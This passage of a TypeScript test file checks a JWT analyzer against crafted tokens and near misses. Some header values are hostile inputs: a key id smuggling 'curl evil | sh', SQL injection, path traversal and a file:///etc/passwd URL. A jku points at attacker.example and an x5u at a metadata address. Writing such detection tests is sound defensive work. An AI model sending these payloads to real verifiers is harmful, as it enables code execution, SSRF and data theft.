// Tables of tokens for every finding code and its near miss, plus property tests that analysis never throws.
import { generateKeyPairSync, sign as nodeSign } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  analyzeToken,
  DEFAULT_MAX_LIFETIME_SECONDS,
  FINDING_CODES,
  ibanChecksumValid,
  luhnValid,
  type AnalysisContext,
} from './findings.ts';
import type { DecodedJwe, DecodedJws, DecodedToken, Finding, Severity } from './types.ts';

const NOW = 1_700_000_000;
const CTX: AnalysisContext = { nowSeconds: NOW, maxLifetimeSeconds: DEFAULT_MAX_LIFETIME_SECONDS };
const GOOD_CLAIMS = {
  iss: 'https://issuer.example',
  aud: 'api.example',
  sub: 'user-42',
  iat: NOW - 60,
  exp: NOW + 3600,
};
const SEVERITIES: readonly Severity[] = ['critical', 'high', 'medium', 'low', 'info'];

const b64u = (data: string | Uint8Array): string => Buffer.from(data).toString('base64url');

/** A DecodedJws as decode.ts would build it, from a header, a payload and signature bytes. */
function jws(
  header: Record<string, unknown> | null,
  payload: unknown = GOOD_CLAIMS,
  signature: Uint8Array = new Uint8Array(32).fill(7),
): DecodedJws {
  const headerText = header === null ? null : JSON.stringify(header);
  const payloadText = JSON.stringify(payload);
  const segments = [
    b64u(headerText ?? 'not json'),
    b64u(payloadText),
    b64u(signature),
  ] as const satisfies readonly [string, string, string];
  return {
    kind: 'jws',
    token: segments.join('.'),
    segments,
    signingInput: `${segments[0]}.${segments[1]}`,
    header,
    headerText,
    payload: { kind: 'json', value: payload, text: payloadText },
    signature,
    problems: [],
  };
}

function jwe(header: Record<string, unknown>): DecodedJwe {
  const headerText = JSON.stringify(header);
  const segments = [
    b64u(headerText),
    b64u('k'),
    b64u('iv'),
    b64u('ciphertext'),
    b64u('tag'),
  ] as const;
  return {
    kind: 'jwe',
    token: segments.join('.'),
    segments,
    header,
    headerText,
    problems: [],
  };
}

const HS = { alg: 'HS256', typ: 'JWT' };
const analyze = (token: DecodedToken, ctx: Partial<AnalysisContext> = {}) =>
  analyzeToken(token, { ...CTX, ...ctx });
const codesOf = (findings: readonly Finding[]) => findings.map((f) => f.code);

/** The one finding with `code`; fails the test when there is none or more than one. */
function only(findings: readonly Finding[], code: string): Finding {
  const matches = findings.filter((f) => f.code === code);
  expect(matches, `exactly one ${code} in ${JSON.stringify(codesOf(findings))}`).toHaveLength(1);
  return matches[0]!;
}

interface Case {
  readonly name: string;
  readonly token: DecodedToken;
  readonly ctx?: Partial<AnalysisContext>;
}
interface Positive extends Case {
  readonly code: string;
  readonly severity: Severity;
  readonly message: readonly (string | RegExp)[];
  readonly reference: string;
}
interface NearMiss extends Case {
  readonly code: string;
}

const ZERO64 = new Uint8Array(64);
const P256_ORDER = Buffer.from(
  'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551',
  'hex',
);

const POSITIVES: readonly Positive[] = [
  {
    name: 'alg "none"',
    code: 'alg-none',
    severity: 'critical',
    token: jws({ alg: 'none' }, GOOD_CLAIMS, new Uint8Array(0)),
    message: ['"none"', 'unsecured'],
    reference: 'RFC 8725 §3.1',
  },
  {
    name: 'alg "NoNe" in mixed case',
    code: 'alg-none',
    severity: 'critical',
    token: jws({ alg: 'NoNe' }, GOOD_CLAIMS, new Uint8Array(0)),
    message: ['"NoNe"'],
    reference: 'RFC 7518 §3.6',
  },
  {
    name: 'wordlist secret found',
    code: 'weak-secret',
    severity: 'critical',
    token: jws(HS),
    ctx: { weakSecret: 'secret123' },
    message: ['"secret123"', 'wordlist'],
    reference: 'RFC 8725 §3.5',
  },
  {
    name: 'HS256 with a 16-byte key',
    code: 'short-secret',
    severity: 'high',
    token: jws(HS),
    ctx: { key: { kind: 'secret', secretBytes: 16 } },
    message: ['HS256', '16 bytes', '32 bytes'],
    reference: 'RFC 7518 §3.2',
  },
  {
    name: 'HS512 with a 63-byte key',
    code: 'short-secret',
    severity: 'high',
    token: jws({ alg: 'HS512' }),
    ctx: { key: { kind: 'secret', secretBytes: 63 } },
    message: ['HS512', '63 bytes', '64 bytes'],
    reference: 'RFC 7518 §3.2',
  },
  {
    name: 'HS256 checked against a public key',
    code: 'alg-confusion',
    severity: 'critical',
    token: jws(HS),
    ctx: { algConfusion: true, key: { kind: 'public' } },
    message: ['"HS256"', 'public key'],
    reference: 'CVE-2016-10555',
  },
  {
    name: 'unregistered alg',
    code: 'alg-unknown',
    severity: 'medium',
    token: jws({ alg: 'HS257' }),
    message: ['"HS257"', 'not a registered JWS algorithm'],
    reference: 'RFC 7515 §4.1.1',
  },
  {
    name: 'missing alg',
    code: 'alg-unknown',
    severity: 'medium',
    token: jws({ typ: 'JWT' }),
    message: ['undefined'],
    reference: 'RFC 7515 §4.1.1',
  },
  {
    name: 'embedded public jwk',
    code: 'embedded-jwk',
    severity: 'high',
    token: jws({ alg: 'RS256', jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' } }),
    message: ['jwk', '"RSA"'],
    reference: 'CVE-2018-0114',
  },
  {
    name: 'embedded private jwk',
    code: 'embedded-jwk',
    severity: 'high',
    token: jws(
      { alg: 'ES256', jwk: { kty: 'EC', crv: 'P-256', x: 'x', y: 'y', d: 'd' } },
      GOOD_CLAIMS,
      new Uint8Array(64).fill(1),
    ),
    message: ['private key material (d)'],
    reference: 'RFC 7515 §4.1.3',
  },
  {
    name: 'jku URL',
    code: 'jku-header',
    severity: 'high',
    token: jws({ alg: 'RS256', jku: 'https://attacker.example/jwks.json' }),
    message: ['"https://attacker.example/jwks.json"', 'SSRF', 'not fetched'],
    reference: 'RFC 7515 §4.1.2',
  },
  {
    name: 'x5u URL',
    code: 'x5u-header',
    severity: 'high',
    token: jws({ alg: 'RS256', x5u: 'http://169.254.169.254/cert.pem' }),
    message: ['"http://169.254.169.254/cert.pem"', 'SSRF'],
    reference: 'RFC 7515 §4.1.5',
  },
  {
    name: 'x5c chain',
    code: 'x5c-header',
    severity: 'medium',
    token: jws({ alg: 'RS256', x5c: ['MIIB', 'MIIC'] }),
    message: ['2 certificates', 'trust anchor'],
    reference: 'RFC 7515 §4.1.6',
  },
  {
    name: 'kid path traversal',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: '../../../../dev/null' }),
    message: ['"../../../../dev/null"', 'path traversal'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid Windows traversal',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: '..\\..\\keys\\a' }),
    message: ['path traversal'],
    reference: 'RFC 7515 §4.1.4',
  },
  {
    name: 'kid SQL injection',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: "x' UNION SELECT 'key' -- " }),
    message: ['SQL', `"'"`, '"--"', 'UNION', 'SELECT'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid with OR 1=1',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: 'k1 OR 1=1' }),
    message: ['SQL keywords (OR)'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid shell injection',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: 'key$(curl evil)|sh' }),
    message: ['"$("', '"|"'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid with a NUL byte',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: 'key\u0000.pem' }),
    message: ['NUL byte', '\\u0000'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid that is a URL',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: 'file:///etc/passwd' }),
    message: ['a URL'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid that is an absolute path',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: '/etc/keys/hmac.key' }),
    message: ['an absolute path'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'kid that is a NoSQL operator object',
    code: 'kid-injection',
    severity: 'high',
    token: jws({ alg: 'HS256', kid: { $ne: null } }),
    message: ['an object', 'NoSQL'],
    reference: 'RFC 8725 §3.10',
  },
  {
    name: 'no exp',
    code: 'missing-exp',
    severity: 'medium',
    token: jws(HS, { ...GOOD_CLAIMS, exp: undefined }),
    message: ['no exp', 'never expires'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'exp as a string',
    code: 'missing-exp',
    severity: 'medium',
    token: jws(HS, { ...GOOD_CLAIMS, exp: String(NOW + 60) }),
    message: ['a string', 'NumericDate'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'expired 3 hours ago',
    code: 'expired',
    severity: 'info',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW - 4 * 3600, exp: NOW - 3 * 3600 }),
    message: ['3 hours ago', '2023-11-14T19:13:20Z'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'nbf in 2 hours',
    code: 'not-yet-valid',
    severity: 'info',
    token: jws(HS, { ...GOOD_CLAIMS, nbf: NOW + 7200, exp: NOW + 7300 }),
    message: ['2 hours from now'],
    reference: 'RFC 7519 §4.1.5',
  },
  {
    name: 'iat 5 minutes ahead',
    code: 'iat-future',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW + 300 }),
    message: ['5 minutes in the future'],
    reference: 'RFC 7519 §4.1.6',
  },
  {
    name: 'lifetime of 2 days',
    code: 'long-lifetime',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW, exp: NOW + 2 * 86_400 }),
    message: ['2 days', 'from iat to exp', 'threshold of 1 day'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'lifetime of a year',
    code: 'long-lifetime',
    severity: 'medium',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW, exp: NOW + 365 * 86_400 }),
    message: ['365 days'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'no iat and 10 days left',
    code: 'long-lifetime',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, iat: undefined, exp: NOW + 10 * 86_400 }),
    message: ['10 days', 'no iat'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'custom threshold of 1 hour',
    code: 'long-lifetime',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW, exp: NOW + 7200 }),
    ctx: { maxLifetimeSeconds: 3600 },
    message: ['2 hours', 'threshold of 1 hour'],
    reference: 'RFC 7519 §4.1.4',
  },
  {
    name: 'no aud',
    code: 'missing-aud',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, aud: undefined }),
    message: ['no aud'],
    reference: 'RFC 8725 §3.9',
  },
  {
    name: 'empty aud array',
    code: 'missing-aud',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, aud: [] }),
    message: ['empty aud'],
    reference: 'RFC 8725 §3.9',
  },
  {
    name: 'no iss',
    code: 'missing-iss',
    severity: 'low',
    token: jws(HS, { ...GOOD_CLAIMS, iss: undefined }),
    message: ['no iss'],
    reference: 'RFC 8725 §3.8',
  },
  {
    name: 'well-formed crit',
    code: 'crit-header',
    severity: 'info',
    token: jws({ alg: 'HS256', crit: ['http://example.com/ext'], 'http://example.com/ext': true }),
    message: ['"http://example.com/ext"', 'must reject'],
    reference: 'RFC 7515 §4.1.11',
  },
  {
    name: 'crit naming a missing and a registered parameter',
    code: 'crit-header',
    severity: 'medium',
    token: jws({ alg: 'HS256', crit: ['exp', 'alg'] }),
    message: ['malformed', 'registered parameters ("alg")', 'missing from the header ("exp")'],
    reference: 'RFC 7515 §4.1.11',
  },
  {
    name: 'empty crit',
    code: 'crit-header',
    severity: 'medium',
    token: jws({ alg: 'HS256', crit: [] }),
    message: ['it is empty'],
    reference: 'RFC 7515 §4.1.11',
  },
  {
    name: 'b64 false without crit',
    code: 'unencoded-payload',
    severity: 'medium',
    token: jws({ alg: 'HS256', b64: false }),
    message: ['b64 is false', 'crit does not list "b64"'],
    reference: 'RFC 7797 §3',
  },
  {
    name: 'zip on a JWS',
    code: 'zip-header',
    severity: 'medium',
    token: jws({ alg: 'HS256', zip: 'DEF' }),
    message: ['"DEF"', 'defined only for JWE'],
    reference: 'RFC 7516 §4.1.3',
  },
  {
    name: 'zip on a JWE',
    code: 'zip-header',
    severity: 'medium',
    token: jwe({ alg: 'RSA-OAEP', enc: 'A256GCM', zip: 'DEF' }),
    message: ['compression oracles', 'decompression bomb'],
    reference: 'RFC 8725 §3.6',
  },
  {
    name: 'cty JWT',
    code: 'nested-jwt',
    severity: 'info',
    token: jws({ alg: 'HS256', cty: 'jwt' }),
    message: ['"jwt"', 'its own decoding and verification'],
    reference: 'RFC 7519 §5.2',
  },
  {
    name: 'typ not a JWT type',
    code: 'typ-unexpected',
    severity: 'low',
    token: jws({ alg: 'HS256', typ: 'text/html' }),
    message: ['"text/html"', 'a known JWT type'],
    reference: 'RFC 8725 §3.11',
  },
  {
    name: 'typ JWT when at+jwt is expected',
    code: 'typ-unexpected',
    severity: 'low',
    token: jws({ alg: 'HS256', typ: 'JWT' }),
    ctx: { expectedTypes: ['at+jwt'] },
    message: ['"JWT"', '"at+jwt"'],
    reference: 'RFC 8725 §3.11',
  },
  {
    name: 'no typ when one is expected',
    code: 'typ-unexpected',
    severity: 'low',
    token: jws({ alg: 'HS256' }),
    ctx: { expectedTypes: ['dpop+jwt'] },
    message: ['no typ', '"dpop+jwt"'],
    reference: 'RFC 8725 §3.11',
  },
  {
    name: 'password claim',
    code: 'sensitive-claim',
    severity: 'high',
    token: jws(HS, { ...GOOD_CLAIMS, password: 'hunter2' }),
    message: ['"password"', 'secret-like name', 'not shown'],
    reference: 'OWASP JSON Web Token Cheat Sheet',
  },
  {
    name: 'card number',
    code: 'sensitive-claim',
    severity: 'high',
    token: jws(HS, { ...GOOD_CLAIMS, billing: { card: '4111 1111 1111 1111' } }),
    message: ['"billing.card"', 'payment card number'],
    reference: 'RFC 7519 §12',
  },
  {
    name: 'empty signature with HS256',
    code: 'empty-signature',
    severity: 'high',
    token: jws(HS, GOOD_CLAIMS, new Uint8Array(0)),
    message: ['"HS256"', 'signature is empty'],
    reference: 'RFC 7515 §5.2',
  },
  {
    name: 'ES256 all-zero signature',
    code: 'ecdsa-zero-signature',
    severity: 'critical',
    token: jws({ alg: 'ES256' }, GOOD_CLAIMS, ZERO64),
    message: ['ES256', 'r is zero', 's is zero', 'psychic'],
    reference: 'CVE-2022-21449',
  },
  {
    name: 'ES256 with s equal to the curve order',
    code: 'ecdsa-zero-signature',
    severity: 'critical',
    token: jws({ alg: 'ES256' }, GOOD_CLAIMS, Buffer.concat([Buffer.alloc(32, 1), P256_ORDER])),
    message: ['s is not below the curve order'],
    reference: 'RFC 7518 §3.4',
  },
  {
    name: 'ES384 with zero r only',
    code: 'ecdsa-zero-signature',
    severity: 'critical',
    token: jws(
      { alg: 'ES384' },
      GOOD_CLAIMS,
      Buffer.concat([Buffer.alloc(48), Buffer.alloc(48, 5)]),
    ),
    message: ['r is zero'],
    reference: 'CVE-2022-21449',
  },
  {
    name: 'ES256 DER signature',
    code: 'ecdsa-zero-signature',
    severity: 'high',
    token: jws(
      { alg: 'ES256' },
      GOOD_CLAIMS,
      Buffer.concat([Buffer.from([0x30, 0x44]), Buffer.alloc(68, 1)]),
    ),
    message: ['70 bytes, not 64', 'DER'],
    reference: 'RFC 7518 §3.4',
  },
  {
    name: 'ES512 of the wrong length',
    code: 'ecdsa-zero-signature',
    severity: 'high',
    token: jws({ alg: 'ES512' }, GOOD_CLAIMS, new Uint8Array(128).fill(9)),
    message: ['128 bytes, not 132'],
    reference: 'RFC 7518 §3.4',
  },
  {
    name: '1024-bit RSA key',
    code: 'weak-rsa-key',
    severity: 'high',
    token: jws({ alg: 'RS256' }, GOOD_CLAIMS, new Uint8Array(128).fill(3)),
    ctx: { key: { kind: 'public', rsaModulusBits: 1024 } },
    message: ['1024-bit', '2048'],
    reference: 'NIST SP 800-131A',
  },
  {
    name: 'token above 8 KiB',
    code: 'large-token',
    severity: 'info',
    token: jws(HS, { ...GOOD_CLAIMS, roles: 'r'.repeat(9000) }),
    message: [/^The token is 12\d{3} characters/, '8 KiB'],
    reference: 'RFC 9110 §5.4',
  },
  {
    name: 'a JWE',
    code: 'jwe-token',
    severity: 'info',
    token: jwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM' }),
    message: ['"RSA-OAEP-256"', '"A256GCM"', 'not decrypted'],
    reference: 'RFC 7516',
  },
  {
    name: 'a JWE with RSA1_5',
    code: 'rsa1-5-encryption',
    severity: 'medium',
    token: jwe({ alg: 'RSA1_5', enc: 'A128CBC-HS256' }),
    message: ['RSA1_5', 'Bleichenbacher'],
    reference: 'RFC 8725 §3.2',
  },
  {
    name: 'a JWE with an unknown enc',
    code: 'alg-unknown',
    severity: 'medium',
    token: jwe({ alg: 'dir', enc: 'A256CTR' }),
    message: ['enc "A256CTR"'],
    reference: 'RFC 7518 §4.1',
  },
  {
    name: 'a header whose getter throws',
    code: 'analysis-incomplete',
    severity: 'info',
    token: {
      ...jws(HS),
      header: Object.defineProperty({ alg: 'HS256' }, 'kid', {
        enumerable: true,
        get(): never {
          throw new Error('hostile getter');
        },
      }),
    },
    message: ['may be incomplete'],
    reference: 'RFC 7519 §7.2',
  },
];

const p256 = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const realEs256 = (() => {
  const header = { alg: 'ES256', typ: 'JWT' };
  const unsigned = jws(header);
  const sig = nodeSign('sha256', Buffer.from(unsigned.signingInput), {
    key: p256.privateKey,
    dsaEncoding: 'ieee-p1363',
  });
  return jws(header, GOOD_CLAIMS, new Uint8Array(sig));
})();

const NEAR_MISSES: readonly NearMiss[] = [
  { name: 'alg HS256', code: 'alg-none', token: jws(HS) },
  { name: 'no wordlist hit', code: 'weak-secret', token: jws(HS), ctx: { weakSecret: null } },
  {
    name: 'HS256 with a 32-byte key',
    code: 'short-secret',
    token: jws(HS),
    ctx: { key: { kind: 'secret', secretBytes: 32 } },
  },
  {
    name: 'RS256 with a small secret (not HMAC)',
    code: 'short-secret',
    token: jws({ alg: 'RS256' }),
    ctx: { key: { kind: 'secret', secretBytes: 4 } },
  },
  {
    name: 'algConfusion false',
    code: 'alg-confusion',
    token: jws(HS),
    ctx: { algConfusion: false },
  },
  { name: 'EdDSA', code: 'alg-unknown', token: jws({ alg: 'EdDSA' }) },
  {
    name: 'ES256K',
    code: 'alg-unknown',
    token: jws({ alg: 'ES256K' }, GOOD_CLAIMS, new Uint8Array(64).fill(1)),
  },
  {
    name: 'registered JWE algs',
    code: 'alg-unknown',
    token: jwe({ alg: 'ECDH-ES+A256KW', enc: 'A128GCM' }),
  },
  { name: 'kid only', code: 'embedded-jwk', token: jws({ alg: 'RS256', kid: 'k1' }) },
  { name: 'no jku', code: 'jku-header', token: jws({ alg: 'RS256', x5t: 'abc' }) },
  { name: 'no x5u', code: 'x5u-header', token: jws({ alg: 'RS256' }) },
  { name: 'x5t is not x5c', code: 'x5c-header', token: jws({ alg: 'RS256', 'x5t#S256': 'abc' }) },
  {
    name: 'kid "2024-key-1"',
    code: 'kid-injection',
    token: jws({ alg: 'HS256', kid: '2024-key-1' }),
  },
  {
    name: 'kid that is a JWK thumbprint',
    code: 'kid-injection',
    token: jws({ alg: 'HS256', kid: 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs' }),
  },
  {
    name: 'kid that is a UUID',
    code: 'kid-injection',
    token: jws({ alg: 'HS256', kid: '123e4567-e89b-12d3-a456-426614174000' }),
  },
  {
    name: 'kid with "--" inside',
    code: 'kid-injection',
    token: jws({ alg: 'HS256', kid: 'a--b.c' }),
  },
  {
    name: 'kid "orange and more"',
    code: 'kid-injection',
    token: jws({ alg: 'HS256', kid: 'key.orange' }),
  },
  { name: 'numeric kid', code: 'kid-injection', token: jws({ alg: 'HS256', kid: 7 }) },
  { name: 'exp present', code: 'missing-exp', token: jws(HS) },
  {
    name: 'exp one second ahead',
    code: 'expired',
    token: jws(HS, { ...GOOD_CLAIMS, exp: NOW + 1 }),
  },
  { name: 'nbf now', code: 'not-yet-valid', token: jws(HS, { ...GOOD_CLAIMS, nbf: NOW }) },
  {
    name: 'iat 60 s ahead (within skew)',
    code: 'iat-future',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW + 60 }),
  },
  {
    name: 'lifetime exactly at the threshold',
    code: 'long-lifetime',
    token: jws(HS, { ...GOOD_CLAIMS, iat: NOW - 10, exp: NOW - 10 + DEFAULT_MAX_LIFETIME_SECONDS }),
  },
  {
    name: 'no iat and exactly 24 h left',
    code: 'long-lifetime',
    token: jws(HS, { ...GOOD_CLAIMS, iat: undefined, exp: NOW + DEFAULT_MAX_LIFETIME_SECONDS }),
  },
  { name: 'aud array', code: 'missing-aud', token: jws(HS, { ...GOOD_CLAIMS, aud: ['a', 'b'] }) },
  { name: 'iss present', code: 'missing-iss', token: jws(HS) },
  { name: 'no crit', code: 'crit-header', token: jws(HS) },
  { name: 'b64 true', code: 'unencoded-payload', token: jws({ alg: 'HS256', b64: true }) },
  { name: 'no zip on a JWE', code: 'zip-header', token: jwe({ alg: 'dir', enc: 'A256GCM' }) },
  { name: 'cty "json"', code: 'nested-jwt', token: jws({ alg: 'HS256', cty: 'json' }) },
  { name: 'typ "JWT"', code: 'typ-unexpected', token: jws({ alg: 'HS256', typ: 'JWT' }) },
  {
    name: 'typ "application/at+JWT"',
    code: 'typ-unexpected',
    token: jws({ alg: 'HS256', typ: 'application/at+JWT' }),
  },
  { name: 'no typ', code: 'typ-unexpected', token: jws({ alg: 'HS256' }) },
  {
    name: 'typ matching expectedTypes with a prefix',
    code: 'typ-unexpected',
    token: jws({ alg: 'HS256', typ: 'application/secevent+jwt' }),
    ctx: { expectedTypes: ['secevent+jwt'] },
  },
  {
    name: '16-digit number failing Luhn',
    code: 'sensitive-claim',
    token: jws(HS, { ...GOOD_CLAIMS, ref: '4111 1111 1111 1112' }),
  },
  {
    name: 'password metadata',
    code: 'sensitive-claim',
    token: jws(HS, {
      ...GOOD_CLAIMS,
      password_expires_at: '2025-01-01T00:00:00Z',
      pwd_changed: true,
      public_key: 'MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE9x2Kq',
      key: 'user-settings',
    }),
  },
  {
    name: 'SSN with area 000, 666, 9xx',
    code: 'sensitive-claim',
    token: jws(HS, { ...GOOD_CLAIMS, a: '000-12-3456', b: '666-12-3456', c: '912-12-3456' }),
  },
  {
    name: 'IBAN with a wrong check digit and an invalid NINO prefix',
    code: 'sensitive-claim',
    token: jws(HS, { ...GOOD_CLAIMS, iban: 'GB82 WEST 1234 5698 7654 33', ni: 'QQ123456C' }),
  },
  {
    name: 'a 13-digit millisecond timestamp string',
    code: 'sensitive-claim',
    token: jws(HS, { ...GOOD_CLAIMS, t: '1700000000018' }),
  },
  {
    name: 'unsecured token',
    code: 'empty-signature',
    token: jws({ alg: 'none' }, GOOD_CLAIMS, new Uint8Array(0)),
  },
  { name: 'a real ES256 signature', code: 'ecdsa-zero-signature', token: realEs256 },
  {
    name: 'an empty ES256 signature (empty-signature instead)',
    code: 'ecdsa-zero-signature',
    token: jws({ alg: 'ES256' }, GOOD_CLAIMS, new Uint8Array(0)),
  },
  {
    name: 'a 2048-bit key',
    code: 'weak-rsa-key',
    token: jws({ alg: 'RS256' }),
    ctx: { key: { kind: 'public', rsaModulusBits: 2048 } },
  },
  {
    name: 'an 8 KiB token',
    code: 'large-token',
    token: (() => {
      const base = jws(HS);
      return { ...base, token: 'a'.repeat(8192) };
    })(),
  },
  { name: 'a JWS', code: 'jwe-token', token: jws(HS) },
  { name: 'RSA-OAEP', code: 'rsa1-5-encryption', token: jwe({ alg: 'RSA-OAEP', enc: 'A256GCM' }) },
  { name: 'a plain header', code: 'analysis-incomplete', token: jws(HS) },
];

describe('analyzeToken: one table row per code', () => {
  it('has a positive case and a near miss for every code it can emit', () => {
    const positives = new Set(POSITIVES.map((c) => c.code));
    const misses = new Set(NEAR_MISSES.map((c) => c.code));
    for (const code of FINDING_CODES) {
      expect(positives, code).toContain(code);
      expect(misses, code).toContain(code);
    }
    for (const code of [...positives, ...misses]) expect(FINDING_CODES).toContain(code);
  });

  it('finds nothing on a well-formed HS256 access token', () => {
    expect(analyze(jws(HS))).toEqual([]);
    expect(analyze(realEs256)).toEqual([]);
  });

  it.each(POSITIVES)('$code: $name', ({ token, ctx, code, severity, message, reference }) => {
    const finding = only(analyze(token, ctx), code);
    expect(finding.severity).toBe(severity);
    for (const part of message) {
      if (typeof part === 'string') expect(finding.message).toContain(part);
      else expect(finding.message).toMatch(part);
    }
    expect(finding.reference).toContain(reference);
  });

  it.each(NEAR_MISSES)('no $code: $name', ({ token, ctx, code }) => {
    expect(codesOf(analyze(token, ctx))).not.toContain(code);
  });
});

describe('analyzeToken: scope rules', () => {
  it('raises only alg-none, not empty-signature, for an unsecured token', () => {
    const codes = codesOf(analyze(jws({ alg: 'none' }, GOOD_CLAIMS, new Uint8Array(0))));
    expect(codes).toEqual(['alg-none']);
  });

  it('accepts b64 false listed in crit, reporting crit as info', () => {
    const findings = analyze(jws({ alg: 'HS256', b64: false, crit: ['b64'] }));
    expect(codesOf(findings)).toEqual(['unencoded-payload', 'crit-header']);
    expect(only(findings, 'unencoded-payload').message).not.toContain('crit');
    expect(only(findings, 'crit-header').severity).toBe('info');
  });

  it('says when an unsecured token still carries a signature', () => {
    const finding = only(analyze(jws({ alg: 'none' })), 'alg-none');
    expect(finding.message).toContain('still carries a signature');
  });

  it('checks only the header of a JWE', () => {
    const token = jwe({
      alg: 'RSA-OAEP',
      enc: 'A256GCM',
      kid: '../k',
      jku: 'https://x.example/j',
      cty: 'JWT',
    });
    expect(codesOf(analyze(token))).toEqual([
      'jku-header',
      'kid-injection',
      'jwe-token',
      'nested-jwt',
    ]);
    expect(only(analyze(token), 'nested-jwt').message).toContain('decrypted plaintext');
  });

  it('does not apply JWS-only checks to a JWE', () => {
    const token = jwe({ alg: 'RSA-OAEP', enc: 'A256GCM', b64: false });
    expect(codesOf(analyze(token, { algConfusion: true, weakSecret: 'x' }))).toEqual(['jwe-token']);
  });

  it('skips claim checks when the payload is not a JSON object', () => {
    const base = jws(HS);
    const text: DecodedJws = { ...base, payload: { kind: 'text', text: 'hello' } };
    const array: DecodedJws = { ...base, payload: { kind: 'json', value: [1, 2], text: '[1,2]' } };
    const none: DecodedJws = { ...base, payload: null, header: null, signature: null };
    expect(analyze(text)).toEqual([]);
    expect(analyze(array)).toEqual([]);
    expect(analyze(none)).toEqual([]);
  });

  it('skips time checks when nowSeconds is not a number, and defaults a bad threshold', () => {
    const token = jws(HS, { ...GOOD_CLAIMS, iat: NOW, exp: NOW + 2 * 86_400 });
    expect(codesOf(analyze(token, { nowSeconds: Number.NaN }))).toEqual([]);
    const finding = only(analyze(token, { maxLifetimeSeconds: -1 }), 'long-lifetime');
    expect(finding.message).toContain('threshold of 1 day');
  });

  it('reads only own properties, never the prototype', () => {
    const header = JSON.parse('{"alg":"HS256","__proto__":{"jwk":{"kty":"oct"}}}') as Record<
      string,
      unknown
    >;
    const payload = JSON.parse(
      '{"iss":"i","aud":"a","iat":1699999940,"exp":1700003600,"constructor":"x","__proto__":{"password":"p"}}',
    ) as unknown;
    const codes = codesOf(analyze(jws(header, payload)));
    expect(codes).not.toContain('embedded-jwk');
    expect(codes).toContain('sensitive-claim');
  });

  it('flags a short secret and a weak secret together', () => {
    const codes = codesOf(
      analyze(jws(HS), { weakSecret: '', key: { kind: 'secret', secretBytes: 0 } }),
    );
    expect(codes).toEqual(['weak-secret', 'short-secret']);
    expect(only(analyze(jws(HS), { weakSecret: '' }), 'weak-secret').message).toContain(
      'empty ("")',
    );
  });
});

describe('analyzeToken: sensitive claims', () => {
  const SECRETS: readonly (readonly [string, unknown, string])[] = [
    ['password', 'hunter2-Correct', 'secret-like name'],
    ['clientSecret', 'cs_9f8e7d6c5b4a', 'secret-like name'],
    ['api_key', 'k-123456', 'secret-like name'],
    ['refresh_token', 'rt.8sd7f6g5h4j3k2l1', 'bearer token'],
    ['hmac', 'Zk9vYmFyQmF6UXV4MTIzNDU2Nzg5MA', 'high-entropy value'],
    ['card', '5555-5555-5555-4444', 'payment card number'],
    ['amex', '378282246310005', 'payment card number'],
    ['ssn', '078-05-1120', 'US social security number'],
    ['nino', 'AB123456C', 'UK National Insurance number'],
    ['iban', 'GB82 WEST 1234 5698 7654 32', 'IBAN'],
    ['payout', 'DE89370400440532013000', 'IBAN'],
    [
      'pem',
      '-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----',
      'PEM private key',
    ],
    ['aws', 'AKIAIOSFODNN7EXAMPLE', 'AWS access key id'],
    ['note', 'paid with 4242424242424242 yesterday', 'payment card number'],
    ['gh', `ghp_${'a1B2'.repeat(9)}`, 'GitHub token'],
  ];

  it.each(SECRETS)('%s: reports %s by path and hides the value', (name, value, label) => {
    const finding = only(analyze(jws(HS, { ...GOOD_CLAIMS, [name]: value })), 'sensitive-claim');
    expect(finding.message).toContain(`"${name}"`);
    expect(finding.message).toContain(label);
    const text = String(value);
    expect(finding.message).not.toContain(text);
    for (const piece of text.split(/[\s-]+/).filter((p) => p.length >= 4)) {
      expect(finding.message).not.toContain(piece);
    }
  });

  it('names nested paths through objects and arrays', () => {
    const payload = {
      ...GOOD_CLAIMS,
      apps: [{ name: 'a' }, { client_secret: 's3cr3t!' }],
      cnf: { jwk: { kty: 'EC', crv: 'P-256', x: 'x', y: 'y', d: 'private-scalar' } },
      'odd key': { passwd: 'x' },
    };
    const messages = analyze(jws(HS, payload))
